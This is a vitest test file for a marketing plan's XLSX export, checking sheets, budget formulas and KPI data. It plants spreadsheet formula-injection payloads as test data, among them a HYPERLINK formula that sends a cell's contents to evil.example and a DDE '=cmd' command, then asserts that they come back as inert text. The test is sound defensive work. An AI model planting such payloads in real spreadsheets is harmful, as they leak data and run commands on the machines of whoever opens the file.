import ExcelJS from 'exceljs';
import JSZip from 'jszip';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parse } from 'yaml';
import {
  createTestApp,
  importExamplePlan,
  planFullYaml,
  seedWorkspace,
  type SeededWorkspace,
  type TestApp,
} from '../support/app.js';
import { downloader, type Download } from './download.js';
import { evaluate } from './formulas.js';

/**
 * The XLSX export, re-opened with exceljs: sheets, values, live formulas (evaluated again from
 * the cells they name) and their cached results against totals worked out here from the plan
 * fixture, and texts that look like formulas coming back as text.
 */

interface FixtureLine {
  key: string;
  label: string;
  plannedAmount: number;
  committedAmount: number;
  expectedRoi?: number;
}
interface FixtureSpend {
  budgetLine: string;
  amount: number;
  kind: 'committed' | 'actual';
}
const fixture = parse(planFullYaml) as {
  budget: { totalAmount: number; contingencyPercent: number };
  budgetLines: FixtureLine[];
  spendEntries: FixtureSpend[];
  actions: { title: string }[];
  measurements: { kpi: string; date: string; value: number; source: string }[];
  kpis: { key: string; name: string }[];
};

// The expected budget, in currency units, straight from the fixture.
const spend = (line: string, kind: FixtureSpend['kind']) =>
  fixture.spendEntries.filter((e) => e.budgetLine === line && e.kind === kind).reduce((s, e) => s + e.amount, 0);
const expectedLines = fixture.budgetLines.map((line) => ({
  label: line.label,
  planned: line.plannedAmount / 100,
  committed: (line.committedAmount + spend(line.key, 'committed')) / 100,
  actual: spend(line.key, 'actual') / 100,
  expectedReturn: (line.plannedAmount * (line.expectedRoi ?? 0)) / 100,
}));
const total = (pick: (l: (typeof expectedLines)[number]) => number) => expectedLines.reduce((s, l) => s + pick(l), 0);
const expected = {
  planned: total((l) => l.planned),
  committed: total((l) => l.committed),
  actual: total((l) => l.actual),
  expectedReturn: total((l) => l.expectedReturn),
  envelope: fixture.budget.totalAmount / 100,
  reserve: (fixture.budget.totalAmount * fixture.budget.contingencyPercent) / 100 / 100,
};

const hostile = {
  actionTitle: '=HYPERLINK("http://evil.example/?leak="&A1,"Cliquez ici")',
  budgetLabel: '+33 % de ventes grâce au bouche-à-oreille',
  correctiveTitle: '@SUM(A1:A2)',
  outcome: "\t=cmd|' /C calc'!A0",
  note: '-2+3',
};

let t: TestApp;
let ws: SeededWorkspace;
let planId = '';
let fr: ExcelJS.Workbook;
let frBytes: Buffer;
let en: ExcelJS.Workbook;

async function download(lang: 'fr' | 'en'): Promise<Buffer> {
  const answer = await fetchExport(lang);
  expect(answer.status).toBe(200);
  return answer.bytes;
}

let get: (path: string, as: import('../support/app.js').Actor) => Promise<Download>;
const fetchExport = (lang: string) =>
  get(`/plans/${planId}/export?format=xlsx&lang=${lang}&today=2027-03-01`, ws.actors.viewer);

async function open(bytes: Buffer): Promise<ExcelJS.Workbook> {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(bytes as unknown as ArrayBuffer);
  return workbook;
}

beforeAll(async () => {
  t = await createTestApp();
  get = downloader(t);
  ws = await seedWorkspace(t);
  planId = await importExamplePlan(t, ws);
  const as = ws.actors.editor;
  const idOf = async (collection: string, key: string) =>
    (await t.request('GET', `/plans/${planId}/${collection}`, { as })).body.items.find(
      (item: { key: string }) => item.key === key,
    ).id as string;
  const created = await Promise.all([
    t.request('POST', `/plans/${planId}/actions`, {
      as,
      body: { key: 'piege', tacticId: await idOf('tactics', 'articles-blog'), title: hostile.actionTitle },
    }),
    t.request('POST', `/plans/${planId}/budget-lines`, {
      as,
      body: { key: 'bl-piege', label: hostile.budgetLabel, category: 'other', plannedAmount: 0 },
    }),
    t.request('POST', `/plans/${planId}/corrective-actions`, {
      as,
      body: {
        key: 'ca-piege',
        kpiId: await idOf('kpis', 'trafic-organique'),
        title: hostile.correctiveTitle,
        outcome: hostile.outcome,
      },
    }),
    t.request('POST', `/plans/${planId}/measurements`, {
      as,
      body: {
        kpiId: await idOf('kpis', 'cout-par-lead'),
        date: '2027-01-31',
        value: 13.1,
        source: 'manual',
        note: hostile.note,
      },
    }),
  ]);
  for (const answer of created) expect(answer.status, answer.text).toBe(201);
  frBytes = await download('fr');
  fr = await open(frBytes);
  en = await open(await download('en'));
});
afterAll(() => t.close());

const rowsOf = (sheet: ExcelJS.Worksheet) => {
  const rows: ExcelJS.CellValue[][] = [];
  sheet.eachRow((row) => rows.push((row.values as ExcelJS.CellValue[]).slice(1)));
  return rows;
};
const formulaOf = (cell: ExcelJS.Cell) => cell.value as ExcelJS.CellFormulaValue;
/** The number of the row whose first cell is `text` (empty rows count, unlike `rowsOf`). */
const rowNumberOf = (sheet: ExcelJS.Worksheet, text: string) => {
  let found = 0;
  sheet.eachRow((row, number) => (row.getCell(1).value === text ? (found = number) : undefined));
  return found;
};

describe('XLSX export', () => {
  it('is served as an attachment named after the plan', async () => {
    const answer = await fetchExport('fr');
    expect(answer.headers.get('content-type')).toBe(
      'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
    );
    expect(answer.headers.get('content-disposition')).toBe('attachment; filename="bio-croissance-2027.xlsx"');
  });

  it('has the sheets, in the chosen language, with a bold frozen header row', () => {
    expect(fr.worksheets.map((s) => s.name)).toEqual(['Actions', 'Budget', 'KPI', 'Mesures', 'Actions correctives']);
    expect(en.worksheets.map((s) => s.name)).toEqual([
      'Actions',
      'Budget',
      'KPIs',
      'Measurements',
      'Corrective actions',
    ]);
    for (const sheet of fr.worksheets) {
      expect(sheet.views[0], sheet.name).toMatchObject({ state: 'frozen', ySplit: 1 });
      expect(sheet.getRow(1).getCell(1).font?.bold, sheet.name).toBe(true);
      expect(sheet.getColumn(1).width, sheet.name).toBeGreaterThan(8);
    }
    expect(rowsOf(fr.getWorksheet('Budget')!)[0]!.slice(4, 7)).toEqual(['Prévu', 'Engagé', 'Réel']);
    expect(rowsOf(en.getWorksheet('Budget')!)[0]!.slice(4, 7)).toEqual(['Planned', 'Committed', 'Actual']);
  });

  it('lists actions with their RACI names', () => {
    const rows = rowsOf(fr.getWorksheet('Actions')!);
    const header = rows[0]!;
    const audit = rows.find((row) => row[2] === fixture.actions[0]!.title)!;
    const cellOf = (name: string) => audit[header.indexOf(name)];
    expect(cellOf('Statut')).toBe('Terminée');
    expect(cellOf('R — Réalise')).toBe('Hugo Bernard');
    expect(cellOf('A — Approuve')).toBe('Camille Martin');
    expect(cellOf('Échéance')).toEqual(new Date('2027-01-22T00:00:00Z'));
    expect(cellOf('Coût estimé')).toBe(1500);
  });

  it('writes budget lines in currency units, with live formulas whose totals match the fixture', () => {
    const sheet = fr.getWorksheet('Budget')!;
    const rows = rowsOf(sheet);
    for (const line of expectedLines) {
      const row = rows.find((r) => r[0] === line.label)!;
      expect(row.slice(4, 7), line.label).toEqual([line.planned, line.committed, line.actual]);
    }
    expect(sheet.getCell('E2').numFmt).toContain('€');

    const totalRow = rowNumberOf(sheet, 'Total');
    const checks: [string, number][] = [
      ['E', expected.planned],
      ['F', expected.committed],
      ['G', expected.actual],
      ['H', expected.actual - expected.planned],
      ['K', expected.expectedReturn],
    ];
    for (const [column, value] of checks) {
      const cell = sheet.getCell(`${column}${totalRow}`);
      const { formula, result } = formulaOf(cell);
      expect(formula, column).toMatch(/^SUM\([A-K]2:[A-K]\d+\)$/);
      expect(evaluate(sheet, formula), column).toBeCloseTo(value, 6);
      expect(result, column).toBeCloseTo(value, 6);
    }
    // Every line's variance and expected return are formulas of that line's cells.
    for (let r = 2; r < totalRow; r++) {
      expect(formulaOf(sheet.getCell(`H${r}`)).formula).toBe(`G${r}-E${r}`);
      expect(evaluate(sheet, formulaOf(sheet.getCell(`H${r}`)).formula)).toBeCloseTo(
        Number(sheet.getCell(`G${r}`).value) - Number(sheet.getCell(`E${r}`).value),
        6,
      );
    }
    const variancePercent = formulaOf(sheet.getCell(`I${totalRow}`));
    expect(evaluate(sheet, variancePercent.formula)).toBeCloseTo(
      (expected.actual - expected.planned) / expected.planned,
      9,
    );

    // The envelope block: total, reserve from its percentage cell, allocatable, left to allocate.
    const label = (text: string) => rowNumberOf(sheet, text);
    const reserveRow = label('Réserve pour imprévus');
    expect(sheet.getCell(`E${label('Budget total')}`).value).toBe(expected.envelope);
    expect(sheet.getCell(`D${reserveRow}`).value).toBe(fixture.budget.contingencyPercent / 100);
    expect(evaluate(sheet, formulaOf(sheet.getCell(`E${reserveRow}`)).formula)).toBeCloseTo(expected.reserve, 6);
    const left = formulaOf(sheet.getCell(`E${label('Reste à allouer (allouable − prévu)')}`));
    expect(evaluate(sheet, left.formula)).toBeCloseTo(expected.envelope - expected.reserve - expected.planned, 6);
    expect(left.result).toBeCloseTo(expected.envelope - expected.reserve - expected.planned, 6);
  });

  it('gives each KPI its status and target, and lists every measurement', () => {
    const kpis = rowsOf(fr.getWorksheet('KPI')!);
    const header = kpis[0]!;
    const byName = (name: string) => kpis.find((row) => row[0] === name)!;
    const status = header.indexOf('Statut');
    expect(byName('Trafic organique')[header.indexOf('Cible')]).toBe(60000);
    expect(byName('Trafic organique')[header.indexOf('Date cible')]).toEqual(new Date('2027-12-31T00:00:00Z'));
    // No measurement at all: whatever the rules, the KPI cannot be judged.
    expect(byName("Taux d'engagement Instagram")[status]).toBe('Sans mesure');
    expect(rowsOf(en.getWorksheet('KPIs')!).find((r) => r[0] === "Taux d'engagement Instagram")![status]).toBe(
      'No data',
    );

    const measurements = rowsOf(fr.getWorksheet('Mesures')!).slice(1);
    expect(measurements).toHaveLength(fixture.measurements.length + 1);
    const names = new Map(fixture.kpis.map((k) => [k.key, k.name]));
    for (const m of fixture.measurements) {
      expect(measurements).toContainEqual(
        expect.arrayContaining([names.get(m.kpi), new Date(`${m.date}T00:00:00Z`), m.value, m.source]),
      );
    }
  });

  it('keeps texts that look like formulas as text', async () => {
    const found = (sheetName: string, text: string) => {
      const sheet = fr.getWorksheet(sheetName)!;
      let cell: ExcelJS.Cell | undefined;
      sheet.eachRow((row) => row.eachCell((c) => (c.value === text ? (cell = c) : undefined)));
      return cell;
    };
    const cases: [string, string][] = [
      ['Actions', hostile.actionTitle],
      ['Budget', hostile.budgetLabel],
      ['Actions correctives', hostile.correctiveTitle],
      ['Actions correctives', hostile.outcome],
      ['Mesures', hostile.note],
    ];
    for (const [sheet, text] of cases) {
      const cell = found(sheet, text);
      expect(cell, text).toBeDefined();
      expect(cell!.type, text).toBe(ExcelJS.ValueType.String);
      expect(cell!.formula, text).toBeUndefined();
    }

    // In the file itself: each is a shared string (t="s"), and the only formulas in the workbook
    // are the budget's, made of SUM / IF / ROUND and cell references.
    const zip = await JSZip.loadAsync(frBytes);
    const strings = await zip.file('xl/sharedStrings.xml')!.async('string');
    expect(strings).toContain('=HYPERLINK(&quot;http://evil.example/?leak=&quot;&amp;A1');
    const sheets = Object.keys(zip.files).filter((name) => /^xl\/worksheets\/sheet\d+\.xml$/.test(name));
    expect(sheets).toHaveLength(5);
    let formulas = 0;
    for (const name of sheets) {
      const xml = await zip.file(name)!.async('string');
      for (const [, formula] of xml.matchAll(/<f>([^<]*)<\/f>/g)) {
        formulas++;
        expect(formula, name).toMatch(/^(SUM\(|IF\(|ROUND\(|[A-K]\d+-[A-K]\d+$)/);
        expect(formula, name).not.toMatch(/HYPERLINK|cmd|@/);
      }
      expect(xml).not.toContain('HYPERLINK');
    }
    expect(formulas).toBeGreaterThan(10);
  });
});
